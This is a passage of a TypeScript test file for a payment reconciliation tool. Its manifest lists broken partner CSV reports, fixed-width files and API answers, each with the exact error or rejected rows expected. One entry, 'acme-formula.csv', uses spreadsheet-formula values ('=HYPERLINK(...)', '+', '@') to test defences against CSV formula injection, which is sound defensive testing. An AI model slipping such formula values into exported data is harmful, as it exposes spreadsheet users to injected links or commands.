/**
 * Bad input: a corpus of broken partner reports and API answers (test/fixtures/bad-reports, plus a few huge
 * files generated at test time), each run through the real `reconcile()` against a database holding stuck
 * intents of that partner. Every file must end in its documented outcome: a failed run whose error names
 * the file (and the line, or the column), or exactly the listed rejected rows, the run then succeeding or
 * failing by the partner's maxRejectedRatio. A failed run applies nothing (the tables it may change are
 * compared before and after), every run is recorded with its outcome, and nothing crashes.
 *
 * The MANIFEST below is the contract; docs/RELIABILITY.md ("Bad input") prints it as a table.
 */
import { writeFileSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import type { Pool } from 'pg';
import { writeDiscrepanciesJson } from '../../src/discrepancies/discrepanciesJson.js';
import { streamDiscrepancies } from '../../src/discrepancies/streamDiscrepancies.js';
import { writeDiscrepanciesCsv } from '../../src/discrepancies/writeDiscrepanciesCsv.js';
import type { Ledger } from '../../src/ledger/ledger.js';
import { type FakePartner, startFakePartner } from '../../src/partnerFake/fakePartnerServer.js';
import { type ReconciliationResult, reconcile } from '../../src/reconcile/reconcile.js';
import type { ReconcilerConfig } from '../../src/reconcile/reconcilerConfig.js';
import { MAX_RECORD_BYTES } from '../../src/reports/readCsvReport.js';
import { dbNow, minutes, place, snapshot, spec, unknownIntent } from '../reconcile/support.js';
import { sqlPool } from '../support/fixtures.js';
import { useFreshDatabase } from '../support/freshDatabase.js';
import { capturingLogger, testLedger } from '../support/testLedger.js';
import {
  acmeReconciler,
  adyenReconciler,
  apiReconciler,
  BAD_REPORTS,
  cieloReconciler,
  type Dialect,
  escapeRegExp,
  paypalReconciler,
  REPO_ROOT,
  runCli,
  runRow,
  trackUnhandledRejections,
  utf8Reconciler,
  withoutNul,
} from './badInputSupport.js';

/** One rejected record: the physical line (CSV) or 1-based item position (API), the field, why. */
interface Rejection {
  line: number;
  field: string;
  reason: RegExp;
}

type Outcome =
  /** The run fails as a whole. `FILE` in the regex stands for the file's path, `PARTNER` for the partner. */
  | { run: 'failed'; error: RegExp; rejected?: Rejection[] }
  /** The run succeeds; intents end in `settles` (by reference; unlisted ones stay `unknown`). */
  | { run: 'succeeded'; rejected?: Rejection[]; settles?: Record<string, string>; appliesNothing?: true };

interface CorpusEntry {
  /**
   * Under test/fixtures/bad-reports, or built at test time by `generate` (too big to commit). API answers
   * are stored as `*.json.body` / `*.html.body`, so `biome check .` leaves the broken JSON alone.
   */
  file: string;
  dialect: Dialect;
  /** What is wrong with it, in words (printed in docs/RELIABILITY.md). */
  broken: string;
  expect: Outcome;
  rowsRead?: number;
  /** When the stuck intents' attempts started. @default 2025-03-10T10:30:00Z (07:30 in São Paulo) */
  intentsAt?: string | 'an hour ago';
  generate?: (path: string) => void;
  /** More assertions for this file. */
  check?: (context: CaseContext) => Promise<void>;
  /** Set when the outcome asserted is the CURRENT one and it is wrong (see the BUG comment). */
  bug?: string;
}

interface CaseContext {
  ledger: Ledger;
  partner: string;
  path: string;
  report: ReconciliationResult;
  sql: Pool;
}

/** The stuck intents every case starts with (10.00 BRL each); the files talk about them. */
const REFERENCES = ['order-1001', 'order-1002', 'order-1003'];
const ALL_COMPLETED = { 'order-1001': 'completed', 'order-1002': 'completed', 'order-1003': 'completed' };

const threshold = (rejected: number, read: number, ratio: number): RegExp => {
  const percent = Number(((rejected / read) * 100).toFixed(2));
  return new RegExp(
    `^${rejected} of ${read} rows rejected \\(${escapeRegExp(String(percent))}%\\), above maxRejectedRatio ${escapeRegExp(String(ratio))}$`,
  );
};
/** One bad record among three (lines 2-4): 33.33% > 1%, the run fails and lists the record. */
const oneOfThree = (field: string, reason: RegExp, line = 3): Outcome => ({
  run: 'failed',
  error: threshold(1, 3, 0.01),
  rejected: [{ line, field, reason }],
});

/**
 * Malformed versions of a fixed-width layout (reconcilers/cielo.ts): every structural problem fails the file
 * and applies nothing, a bad field is a rejected row naming the spec's field. Records: header, a sales RO,
 * three sales (lines 3-5, order-1001..1003, 10.00 BRL on 10 March 2025 at 07:31-07:33 São Paulo), trailer.
 */
const CIELO_CORPUS: CorpusEntry[] = [
  {
    file: 'cielo-sales.txt',
    dialect: 'cielo',
    broken: 'nothing: a header for 10 March 2025, a sales RO, three sales, the trailer counting 4',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    rowsRead: 4,
    check: async ({ report }) => {
      expect(report.rowsByKind).to.deep.equal({ execution: 3, reversal: 0, failed: 0, ignored: 1 });
      // Cielo's header period is read off the file's own rows: no coverage (reconcilers/cielo.ts).
      expect(report.coverage).to.equal(null);
    },
  },
  {
    file: 'cielo-short-record.txt',
    dialect: 'cielo',
    broken: 'a sale record of 249 characters (the layout has 250)',
    expect: {
      run: 'failed',
      error: /^FILE: line 4: record is 249 characters long, the layout's records are 250 /,
    },
  },
  {
    file: 'cielo-unknown-record-type.txt',
    dialect: 'cielo',
    broken: 'a record of type `7`, which the sales layout does not have (the trailer counts it)',
    expect: {
      run: 'failed',
      error: threshold(1, 5, 0.01),
      rejected: [
        { line: 6, field: 'Tipo de registro', reason: /^"7" is not a known record type \(known: 1, 2\)/ },
      ],
    },
  },
  {
    file: 'cielo-trailer-count.txt',
    dialect: 'cielo',
    broken: 'a trailer counting 5 records where 4 are',
    expect: {
      run: 'failed',
      error: /^FILE: line 6: the trailer counts 5 records \(Total de registro\) but 4 were read/,
    },
  },
  {
    file: 'cielo-no-trailer.txt',
    dialect: 'cielo',
    broken: 'no trailer: the file was cut after its last sale',
    expect: { run: 'failed', error: /^FILE: the file ends at line 5 without its trailer record \(type 9\)/ },
  },
  {
    file: 'cielo-bad-implied-decimal.txt',
    dialect: 'cielo',
    broken: 'a value `000000000010,` where 13 digits with 2 implied decimals belong',
    expect: {
      run: 'failed',
      error: threshold(1, 4, 0.01),
      rejected: [
        {
          line: 3,
          field: 'Valor da compra ou valor da parcela',
          reason: /^"000000000010," is not 13 digits with 2 implied decimals$/,
        },
      ],
    },
  },
  {
    file: 'cielo-bad-sign.txt',
    dialect: 'cielo',
    broken: 'a blank sign position',
    expect: {
      run: 'failed',
      error: threshold(1, 4, 0.01),
      rejected: [
        {
          line: 4,
          field: 'Sinal do valor da compra ou valor da parcela',
          reason: /^"" is not a known debit\/credit indicator \(known: -, \+\)$/,
        },
      ],
    },
  },
];

const MANIFEST: CorpusEntry[] = [
  // ---- whole-file problems: the run fails, naming the file (and the line or the column) -------------
  {
    file: 'acme-empty.csv',
    dialect: 'acme-pay',
    broken: 'empty file (0 bytes)',
    expect: { run: 'failed', error: /^FILE: file is empty$/ },
  },
  {
    file: 'acme-header-only.csv',
    dialect: 'acme-pay',
    broken: 'header only, no rows',
    // A report without one accepted row proves nothing (coverage null): no intent is settled. The stuck
    // intents are past acme-pay's 3-day deadline, so the run flags each `unresolved` for a person.
    expect: { run: 'succeeded' },
    rowsRead: 0,
    check: async ({ report }) => {
      expect(report.coverage).to.equal(null);
      expect(report.discrepancies).to.include({
        unresolved: 3,
        missing_at_partner: 0,
        orphan_partner_record: 0,
      });
    },
  },
  {
    file: 'acme-wrong-delimiter.csv',
    dialect: 'acme-pay',
    broken: 'written with `,` instead of `;`',
    expect: {
      run: 'failed',
      error:
        /^FILE: columns "PEDIDO" \(reference\), "NSU" \(partnerReference\), "VALOR" \(amount\), "MOEDA" \(currency\), "DATA" \(executedAt\) not found in header; found: PEDIDO,NSU,VALOR,MOEDA,DATA,BANDEIRA$/,
    },
  },
  {
    file: 'utf8-wrong-delimiter.csv',
    dialect: 'utf8',
    broken: 'written with `;` instead of `,`',
    expect: {
      run: 'failed',
      error:
        /^FILE: columns "reference" \(reference\), .* not found in header; found: reference;nsu;amount;currency;executed_at$/,
    },
  },
  {
    file: 'acme-unterminated-quote.csv',
    dialect: 'acme-pay',
    broken: 'a quote opened on line 3 is never closed',
    expect: {
      run: 'failed',
      error:
        /^FILE: line 3: unterminated quote: a quoted field in the record starting on this line is never closed$/,
    },
  },
  {
    file: 'acme-quote-in-field.csv',
    dialect: 'acme-pay',
    broken: 'a bare `"` inside an unquoted field (line 3)',
    expect: { run: 'failed', error: /^FILE: line 3: quote inside an unquoted field/ },
  },
  {
    file: 'utf8-text-after-quote.csv',
    dialect: 'utf8',
    broken: '`"order-1002"x`: text after a closing quote (line 3)',
    expect: { run: 'failed', error: /^FILE: line 3: unexpected text after a closing quote/ },
  },
  {
    file: 'acme-missing-column.csv',
    dialect: 'acme-pay',
    broken: 'no VALOR column',
    expect: {
      run: 'failed',
      error:
        /^FILE: column "VALOR" \(amount\) not found in header; found: PEDIDO, NSU, MOEDA, DATA, BANDEIRA$/,
    },
  },
  {
    file: 'acme-duplicated-column.csv',
    dialect: 'acme-pay',
    broken: 'NSU twice in the header',
    expect: { run: 'failed', error: /^FILE: column "NSU" \(partnerReference\) appears 2 times in header/ },
  },
  {
    file: 'acme-bom-latin1.csv',
    dialect: 'acme-pay',
    broken: 'UTF-8 byte order mark at the start of a Latin-1 file',
    expect: {
      run: 'failed',
      // The BOM decodes as Latin-1 "ï»¿" glued to the first header name, so PEDIDO is not found.
      error: /^FILE: column "PEDIDO" \(reference\) not found in header; found: ï»¿PEDIDO, NSU,/,
    },
  },
  {
    file: 'utf8-blank-header-line.csv',
    dialect: 'utf8',
    broken: 'blank first line where the header should be',
    expect: { run: 'failed', error: /^FILE: header line 1 is empty \(is skipLines = 0 right\?\)$/ },
  },
  {
    file: 'acme-10mb-field.csv',
    dialect: 'acme-pay',
    broken: 'a 10 MB PEDIDO field on line 3',
    generate: (path) =>
      writeFileSync(
        path,
        Buffer.from(
          `${CSV_HEADER}\r\n${CSV_ROW_1}\r\norder-${'9'.repeat(10 * 1024 * 1024)};000100002;10,00;BRL;10/03/2025 09:05:00;VISA\r\n`,
          'latin1',
        ),
      ),
    expect: {
      run: 'failed',
      error: new RegExp(
        `^FILE: line 3: record is larger than ${MAX_RECORD_BYTES / 1024 / 1024} MB; is the delimiter right, or is a quote left open\\?$`,
      ),
    },
  },

  // ---- rejected records: listed exactly; 1 of 3 (33%) is above acme-pay's 1%, so the run fails ------
  {
    file: 'acme-amount-dots.csv',
    dialect: 'acme-pay',
    broken: 'amount `1.2.3`',
    expect: oneOfThree('VALOR', /^"1\.2\.3" is not a valid amount: misplaced thousands separator/),
  },
  {
    file: 'acme-amount-double-sign.csv',
    dialect: 'acme-pay',
    broken: 'amount `--5`',
    expect: oneOfThree('VALOR', /^"--5" is not a valid amount: more than one sign$/),
  },
  {
    file: 'acme-amount-exponent.csv',
    dialect: 'acme-pay',
    broken: 'amount `1e5`',
    expect: oneOfThree(
      'VALOR',
      /^"1e5" is not a valid amount: exponent notation \(like 1e5\) is not accepted$/,
    ),
  },
  {
    file: 'acme-amount-nan.csv',
    dialect: 'acme-pay',
    broken: 'amount `NaN`',
    expect: oneOfThree('VALOR', /^"NaN" is not a valid amount: NaN is not a number$/),
  },
  {
    file: 'acme-amount-infinity.csv',
    dialect: 'acme-pay',
    broken: 'amount `Infinity`',
    expect: oneOfThree('VALOR', /^"Infinity" is not a valid amount: Infinity is not a number$/),
  },
  {
    file: 'acme-amount-empty.csv',
    dialect: 'acme-pay',
    broken: 'amount empty',
    expect: oneOfThree('VALOR', /^"" is not a valid amount: empty$/),
  },
  {
    file: 'acme-amount-commas.csv',
    dialect: 'acme-pay',
    broken: 'amount `1,2,3` (decimal-comma dialect)',
    expect: oneOfThree('VALOR', /^"1,2,3" is not a valid amount: more than one decimal separator$/),
  },
  {
    file: 'utf8-amount-decimal-comma.csv',
    dialect: 'utf8',
    broken: 'amount `"10,00"` in a `.` dialect',
    expect: oneOfThree('amount', /^"10,00" is not a valid amount: unexpected character ","$/),
  },
  {
    file: 'acme-amount-25-digits.csv',
    dialect: 'acme-pay',
    broken: 'amount with 25 integer digits',
    expect: oneOfThree('VALOR', /too many digits: 25 before the decimal separator \(at most 20\)$/),
  },
  {
    file: 'acme-huge-amount.csv',
    dialect: 'acme-pay',
    broken: 'amount with 100,000 digits',
    generate: (path) =>
      writeFileSync(
        path,
        Buffer.from(
          `${CSV_HEADER}\r\n${CSV_ROW_1}\r\norder-1002;000100002;${'9'.repeat(100_000)},00;BRL;10/03/2025 09:05:00;VISA\r\n${CSV_ROW_3}\r\n`,
          'latin1',
        ),
      ),
    // The value is quoted cut to 40 characters: one huge cell cannot flood the run row or the logs.
    expect: oneOfThree('VALOR', /^"9{40}…" is not a valid amount: too many digits: 100000 before/),
  },
  {
    file: 'utf8-2mb-reference.csv',
    dialect: 'utf8',
    broken: 'a 2 MB reference',
    generate: (path) =>
      writeFileSync(
        path,
        `reference,nsu,amount,currency,executed_at\norder-1001,N-1001,10.00,BRL,2025-03-10T07:30:00\n${'x'.repeat(2 * 1024 * 1024)},N-1002,10.00,BRL,2025-03-10T09:05:00\norder-1003,N-1003,10.00,BRL,2025-03-10T16:45:00\n`,
      ),
    expect: oneOfThree('reference', /^value of 2097152 characters is larger than 1 MB: "x{40}…"$/),
  },
  {
    file: 'acme-date-feb-31.csv',
    dialect: 'acme-pay',
    broken: 'impossible date 31/02/2025',
    expect: oneOfThree(
      'DATA',
      /^"31\/02\/2025 09:05:00" is not a valid date-time: day of month 31 does not exist$/,
    ),
  },
  {
    file: 'acme-date-dst-gap.csv',
    dialect: 'acme-pay',
    broken: '04/11/2018 00:30, skipped by the DST change in São Paulo',
    expect: oneOfThree(
      'DATA',
      /local time 2018-11-04 00:30:00 does not exist in America\/Sao_Paulo \(daylight saving gap\)$/,
    ),
  },
  {
    file: 'utf8-dst-gap.csv',
    dialect: 'utf8',
    broken: 'ISO `2018-11-04T00:30:00` without offset, in the DST gap',
    expect: oneOfThree('executed_at', /does not exist in America\/Sao_Paulo \(daylight saving gap\)$/),
  },
  {
    file: 'acme-date-wrong-format.csv',
    dialect: 'acme-pay',
    broken: 'date `2025-03-10 09:05:00` instead of dd/MM/yyyy',
    expect: oneOfThree('DATA', /does not match the date format dd\/MM\/yyyy HH:mm:ss$/),
  },
  {
    file: 'utf8-date-with-offset-and-zone.csv',
    dialect: 'utf8',
    broken: 'date `2025-03-10T09:05:00 America/Sao_Paulo` (zone name appended)',
    expect: oneOfThree('executed_at', /not an ISO 8601 date-time/),
  },
  {
    file: 'acme-nul-byte.csv',
    dialect: 'acme-pay',
    broken: 'NUL byte inside PEDIDO',
    expect: oneOfThree('PEDIDO', /^"order-\\u00001002" contains a NUL byte$/),
  },
  {
    file: 'utf8-invalid-bytes.csv',
    dialect: 'utf8',
    broken: 'Latin-1 byte 0xE3 in a UTF-8 reference',
    expect: oneOfThree('reference', /^"order-S\uFFFDo-1002" contains invalid UTF-8 bytes$/),
  },
  {
    file: 'acme-too-many-columns.csv',
    dialect: 'acme-pay',
    broken: 'a row with 7 fields (header has 6)',
    expect: oneOfThree('*', /^expected 6 fields as in the header, found 7$/),
  },
  {
    file: 'acme-too-few-columns.csv',
    dialect: 'acme-pay',
    broken: 'a row with 5 fields',
    expect: oneOfThree('*', /^expected 6 fields as in the header, found 5$/),
  },
  {
    file: 'acme-trailing-delimiter-rows.csv',
    dialect: 'acme-pay',
    broken: 'every row ends with `;`, the header does not',
    expect: {
      run: 'failed',
      error: threshold(3, 3, 0.01),
      rejected: [2, 3, 4].map((line) => ({
        line,
        field: '*',
        reason: /^expected 6 fields as in the header, found 7$/,
      })),
    },
  },
  {
    file: 'acme-currency-symbol.csv',
    dialect: 'acme-pay',
    broken: 'currency `R$`',
    expect: oneOfThree('MOEDA', /^"R\$" is not a 3-letter ISO 4217 currency code$/),
  },
  {
    file: 'acme-currency-empty.csv',
    dialect: 'acme-pay',
    broken: 'currency empty',
    expect: oneOfThree('MOEDA', /^"" is not a 3-letter ISO 4217 currency code$/),
  },
  {
    file: 'acme-no-references.csv',
    dialect: 'acme-pay',
    broken: 'a row with neither PEDIDO nor NSU',
    expect: oneOfThree('PEDIDO', /^no reference and no partner reference$/),
  },
  {
    file: 'utf8-whitespace-row.csv',
    dialect: 'utf8',
    broken: 'a line of three spaces between rows',
    expect: {
      run: 'failed',
      error: threshold(1, 4, 0.01),
      rejected: [{ line: 3, field: '*', reason: /^expected 5 fields as in the header, found 1$/ }],
    },
  },
  {
    file: 'acme-two-bad-rows-in-100.csv',
    dialect: 'acme-pay',
    broken: '100 rows, 2 with currency `R$` (2% > 1%)',
    expect: {
      run: 'failed',
      error: threshold(2, 100, 0.01),
      rejected: [3, 51].map((line) => ({ line, field: 'MOEDA', reason: /^"R\$" is not a 3-letter/ })),
    },
  },
  {
    file: 'acme-one-bad-row-in-100.csv',
    dialect: 'acme-pay',
    broken: "100 rows, 1 with currency `R$` (1%, at the threshold): order-1002's own row",
    expect: {
      run: 'succeeded',
      rejected: [{ line: 3, field: 'MOEDA', reason: /^"R\$" is not a 3-letter ISO 4217 currency code$/ }],
      // order-1002's row IS in the report (line 3, reference readable), only its currency is bad: the
      // partner says it executed something for it, so its absence proves nothing. It stays `unknown` and,
      // past acme-pay's 3-day deadline, is flagged `unresolved` for a person (it used to be settled
      // `not_executed` and charged again).
      settles: { 'order-1001': 'completed', 'order-1003': 'completed' },
    },
    rowsRead: 100,
    check: async ({ ledger, partner, report }) => {
      expect(report.resolved).to.deep.equal({ completed: 2, notExecuted: 0 });
      expect(report.discrepancies).to.include({ unresolved: 1, missing_at_partner: 0 });
      // The next delivery of order-1002 does not call the partner again.
      let calls = 0;
      const again = await ledger
        .run(spec(partner, 'order-1002'), async () => {
          calls += 1;
          return { partnerReference: '000100002-again' };
        })
        .then(
          () => 'ran',
          (error: Error) => error.name,
        );
      expect({ calls, again }).to.deep.equal({ calls: 0, again: 'IntentOutcomeUnknownError' });
    },
  },
  {
    file: 'acme-mixed-line-endings.csv',
    dialect: 'acme-pay',
    broken: 'CRLF, then LF, then CR line endings in one file (5 valid lines)',
    // Every line end (CRLF, LF or CR) ends a record: the 4 rows are read on their own lines (order-1004 is
    // an orphan), nothing is rejected.
    expect: { run: 'succeeded', rejected: [], settles: ALL_COMPLETED },
    rowsRead: 4,
    check: async ({ sql, partner }) => {
      const { rows } = await sql.query(
        'SELECT line, reference FROM partner_records WHERE partner = $1 ORDER BY line',
        [partner],
      );
      expect(rows).to.deep.equal(
        [2, 3, 4, 5].map((line) => ({ line, reference: `order-${1000 + line - 1}` })),
      );
    },
  },

  // ---- odd but valid: the run succeeds -----------------------------------------------------------------
  {
    file: 'acme-cr-only.csv',
    dialect: 'acme-pay',
    broken: 'CR-only line endings (old Mac)',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    rowsRead: 3,
  },
  {
    file: 'utf8-bom.csv',
    dialect: 'utf8',
    broken: 'UTF-8 byte order mark in a UTF-8 file',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    rowsRead: 3,
  },
  {
    // Gzip is recognised by its first bytes (1f 8b), whatever the name: the report inside is read.
    file: 'utf8-gzip.csv',
    dialect: 'utf8',
    broken: 'a gzip archive named .csv (binary)',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    rowsRead: 3,
  },
  {
    file: 'acme-trailing-delimiter.csv',
    dialect: 'acme-pay',
    broken: 'header and rows all end with `;` (an empty 7th column)',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    rowsRead: 3,
  },
  // ---- row kinds and amount conventions (reconcilers/adyen.ts) --------------------------------------
  {
    file: 'adyen-unknown-type.csv',
    dialect: 'adyen',
    broken: 'a row whose `Type` the reconciler does not know (`SettledExternallyWithInfo`)',
    expect: {
      run: 'failed',
      error: threshold(1, 3, 0),
      rejected: [
        {
          line: 3,
          field: 'Type',
          reason: /^"SettledExternallyWithInfo" is not a known Type \(known: Settled, /u,
        },
      ],
    },
  },
  {
    file: 'adyen-ambiguous-timezone.csv',
    dialect: 'adyen',
    broken: 'a row whose `TimeZone` is `IST` (India, Ireland or Israel: three offsets)',
    expect: {
      run: 'failed',
      error: threshold(1, 3, 0),
      rejected: [
        {
          line: 3,
          field: 'TimeZone',
          reason: /^"IST" is not a time-zone abbreviation with one meaning \(known: UTC, GMT, /,
        },
      ],
    },
  },
  {
    file: 'adyen-both-gross-columns.csv',
    dialect: 'adyen',
    broken: 'a row with an amount in both `Gross Debit (GC)` and `Gross Credit (GC)`',
    expect: {
      run: 'failed',
      error: threshold(1, 3, 0),
      rejected: [
        {
          line: 3,
          field: 'Gross Debit (GC)',
          reason: /^both Gross Debit \(GC\) and Gross Credit \(GC\) hold an amount$/,
        },
      ],
    },
  },
  {
    file: 'adyen-missing-type-column.csv',
    dialect: 'adyen',
    broken: 'no `Type` column, so no row has a kind',
    expect: {
      run: 'failed',
      error: /^FILE: column "Type" \(kind\) not found in header; found: Company Account, /,
    },
  },
  // PayPal STL (record types, counts in SC and FF, FF ends a file): a layout broken is a failed run.
  {
    file: 'paypal-unknown-record-type.csv',
    dialect: 'paypal',
    broken: 'a record of a type the layout does not know (`SX`) among the SB rows',
    expect: {
      run: 'failed',
      error: threshold(1, 4, 0),
      rejected: [
        {
          line: 7,
          field: 'record type (position 0)',
          reason:
            /^"SX" is not a record type of this report \(known: CH, SB, RH, FH, SF, RF, RC, SH, SC, FF\)/,
        },
      ],
    },
  },
  {
    file: 'paypal-section-count-mismatch.csv',
    dialect: 'paypal',
    broken: 'an SC record counting 4 SB rows in a section of 3 (a row lost)',
    expect: {
      run: 'failed',
      error:
        /^FILE: line 9: the SC record counts 4 SB record\(s\) in its SH section, but 3 were read: rows are missing or extra, and nothing of the file is applied$/,
    },
  },
  {
    file: 'paypal-no-file-footer.csv',
    dialect: 'paypal',
    broken: 'a file cut after its second SB row: no SC, RC or FF record',
    expect: {
      run: 'failed',
      error:
        /^FILE: line 6: the file ends without its FF record: it was cut short or is partial, and nothing of it is applied$/,
    },
  },
  {
    file: 'paypal-unknown-tcode.csv',
    dialect: 'paypal',
    broken: 'a row whose T-code the reconciler does not know (`T9999`)',
    expect: {
      run: 'failed',
      error: threshold(1, 3, 0),
      rejected: [
        {
          line: 6,
          field: 'Transaction Event Code',
          reason:
            /^Transaction Event Code "T9999", Transaction Debit or Credit "CR" is not a known kind of row/,
        },
      ],
    },
  },
  {
    file: 'adyen-refund-fee-payout.csv',
    dialect: 'adyen',
    broken:
      'nothing: three payments, a refund of one, a fee and a payout (no row of them is an execution or an orphan)',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    rowsRead: 6,
    check: async ({ report }) => {
      expect(report.rowsByKind).to.deep.equal({ execution: 3, reversal: 1, failed: 0, ignored: 2 });
      expect(report.discrepancies.duplicate_execution).to.equal(0);
      expect(report.discrepancies.orphan_partner_record).to.equal(0);
    },
  },
  {
    file: 'acme-currency-lowercase.csv',
    dialect: 'acme-pay',
    broken: 'currency `brl`',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    check: async ({ report }) => {
      expect(report.discrepancies.currency_mismatch).to.equal(0);
    },
  },
  {
    file: 'acme-accents-latin1.csv',
    dialect: 'acme-pay',
    broken: 'Latin-1 accents (`pedido-São-1`) and a `1.234,56` amount',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    check: async ({ sql, partner }) => {
      const { rows } = await sql.query(
        `SELECT reference, amount::text AS amount FROM partner_records WHERE partner = $1 AND reference LIKE 'pedido-%'`,
        [partner],
      );
      expect(rows).to.deep.equal([{ reference: 'pedido-São-1', amount: '1234.56' }]);
    },
  },
  {
    file: 'acme-date-dst-ambiguous.csv',
    dialect: 'acme-pay',
    broken: '16/02/2019 23:30, a time São Paulo lived twice (DST end)',
    intentsAt: '2019-02-17T00:30:00Z',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    check: async ({ sql, partner }) => {
      // Ambiguous local times are accepted; luxon (and so the reader) takes the second one, at -03:00.
      const { rows } = await sql.query(
        `SELECT executed_at FROM partner_records WHERE partner = $1 AND reference = 'order-1002'`,
        [partner],
      );
      expect(rows[0].executed_at.toISOString()).to.equal('2019-02-17T02:30:00.000Z');
    },
  },
  {
    file: 'acme-formula.csv',
    dialect: 'acme-pay',
    broken: 'references and NSUs that are spreadsheet formulas (`=HYPERLINK(...)`, `+`, `-`, `@`)',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    check: checkFormulaExport,
  },

  // ---- API answers (globex-sms from the loopback fake; maxRejectedRatio 0) -----------------------------
  {
    file: 'api-html-error-page.html.body',
    dialect: 'api',
    broken: 'HTTP 200 with an nginx HTML error page',
    expect: {
      run: 'failed',
      error:
        /^partner PARTNER: answered something that is not JSON at page 1 \(content-type text\/html, starting "<!DOCTYPE html> <html><head><title>502 Bad Gateway/,
    },
  },
  {
    file: 'api-truncated.json.body',
    dialect: 'api',
    broken: 'JSON cut in the middle',
    expect: { run: 'failed', error: /^partner PARTNER: answered something that is not JSON at page 1/ },
  },
  {
    file: 'api-empty-body.json.body',
    dialect: 'api',
    broken: 'HTTP 200 with an empty body',
    expect: {
      run: 'failed',
      error:
        /^partner PARTNER: answered something that is not JSON at page 1 \(content-type application\/json, an empty body\)/,
    },
  },
  {
    file: 'api-nan-literal.json.body',
    dialect: 'api',
    broken: '`"amount": NaN` (not JSON)',
    expect: { run: 'failed', error: /^partner PARTNER: answered something that is not JSON at page 1/ },
  },
  {
    file: 'api-data-not-array.json.body',
    dialect: 'api',
    broken: '`data` is an object',
    expect: {
      run: 'failed',
      error: /^partner PARTNER: field data is not an array \(it is an object\) at page 1: check itemsField$/,
    },
  },
  {
    file: 'api-data-null.json.body',
    dialect: 'api',
    broken: '`data` is null',
    expect: { run: 'failed', error: /^partner PARTNER: field data is not an array \(it is null\) at page 1/ },
  },
  {
    file: 'api-200-error-object.json.body',
    dialect: 'api',
    broken: 'HTTP 200 with `{ "error": {...} }` and no data',
    expect: {
      run: 'failed',
      error:
        /^partner PARTNER: the answer at page 1 reports an error \(error: .+\): it is not a complete listing$/,
    },
  },
  {
    file: 'api-200-error-with-empty-data.json.body',
    dialect: 'api',
    broken: 'HTTP 200 with `"data": []` AND an `error` object (outage)',
    intentsAt: 'an hour ago',
    expect: {
      run: 'failed',
      error:
        /^partner PARTNER: the answer at page 1 reports an error \(error: .+\): it is not a complete listing$/,
    },
  },
  {
    file: 'api-200-error-with-partial-data.json.body',
    dialect: 'api',
    broken: 'HTTP 200 with one item AND `"error": "this page is incomplete"` (partial outage)',
    intentsAt: 'an hour ago',
    // An answer carrying a top-level `error` member is not a complete listing: the read fails and nothing is
    // applied, so the two stuck intents the partner left out are not "proven" absent.
    expect: {
      run: 'failed',
      error:
        /^partner PARTNER: the answer at page 1 reports an error \(error: .+\): it is not a complete listing$/,
    },
  },
  {
    file: 'api-cursor-loop.json.body',
    dialect: 'api',
    broken: '`next_cursor` hands back the same cursor forever',
    expect: {
      run: 'failed',
      error: /^partner PARTNER: cursor repeated at page 2: the listing loops back to a page it already gave/,
    },
  },
  {
    file: 'api-next-cursor-number.json.body',
    dialect: 'api',
    broken: '`next_cursor` is a number',
    expect: {
      run: 'failed',
      error: /^partner PARTNER: field next_cursor is a number at page 1, expected a string or null/,
    },
  },
  {
    file: 'api-unsafe-numbers.json.body',
    dialect: 'api',
    broken: 'amount as the JSON number 12345678901234567.89 (beyond a double)',
    expect: {
      run: 'failed',
      error: threshold(1, 3, 0),
      rejected: [
        {
          line: 2,
          field: 'amount',
          reason: /^amount is a JSON number that cannot be represented exactly; send it as a string$/,
        },
      ],
    },
  },
  {
    file: 'api-exponent-amount.json.body',
    dialect: 'api',
    broken: 'amount as the JSON number `1e1`',
    expect: {
      run: 'failed',
      error: threshold(1, 3, 0),
      rejected: [{ line: 2, field: 'amount', reason: /cannot be represented exactly/ }],
    },
  },
  {
    file: 'api-null-fields.json.body',
    dialect: 'api',
    broken: 'items with null references, amount, currency, executed_at, and a null item',
    expect: {
      run: 'failed',
      error: threshold(5, 6, 0),
      rejected: [
        { line: 2, field: 'reference', reason: /^has neither a reference nor a partner reference/ },
        { line: 3, field: 'amount', reason: /^amount is missing$/ },
        { line: 4, field: 'currency', reason: /^currency is missing$/ },
        { line: 5, field: 'executed_at', reason: /^execution time is missing$/ },
        { line: 6, field: '*', reason: /^the item is null, not an object$/ },
      ],
    },
  },
  {
    file: 'api-wrong-types.json.body',
    dialect: 'api',
    broken: 'reference an object, amount `true`, currency `R$`, executed_at a number, an item a string',
    expect: {
      run: 'failed',
      error: threshold(5, 6, 0),
      rejected: [
        { line: 2, field: 'reference', reason: /^expected text or a number, found an object$/ },
        { line: 3, field: 'amount', reason: /^expected a decimal amount such as "12.50", found a boolean$/ },
        { line: 4, field: 'currency', reason: /^"R\$" is not a 3-letter ISO 4217 code$/ },
        { line: 5, field: 'executed_at', reason: /^expected an ISO 8601 date-time string, found a number$/ },
        { line: 6, field: '*', reason: /^the item is a string, not an object$/ },
      ],
    },
  },
  {
    file: 'api-big-integer-ids.json.body',
    dialect: 'api',
    broken: 'ids as JSON numbers beyond 2^53 (123456789012345678901, 9007199254740993)',
    intentsAt: 'an hour ago',
    expect: { run: 'succeeded', settles: ALL_COMPLETED },
    check: async ({ sql, partner }) => {
      // Kept digit for digit: JSON.parse would have made them 123456789012345680000 and 9007199254740992.
      const { rows } = await sql.query(
        'SELECT reference, partner_reference FROM intents WHERE partner = $1 ORDER BY reference',
        [partner],
      );
      expect(rows.map((row) => row.partner_reference)).to.deep.equal([
        '123456789012345678901',
        '9007199254740993',
        'ch_1003',
      ]);
    },
  },
  ...CIELO_CORPUS,
];

const CSV_HEADER = 'PEDIDO;NSU;VALOR;MOEDA;DATA;BANDEIRA';
const CSV_ROW_1 = 'order-1001;000100001;10,00;BRL;10/03/2025 07:30:00;VISA';
const CSV_ROW_3 = 'order-1003;000100003;10,00;BRL;10/03/2025 16:45:00;ELO';

/**
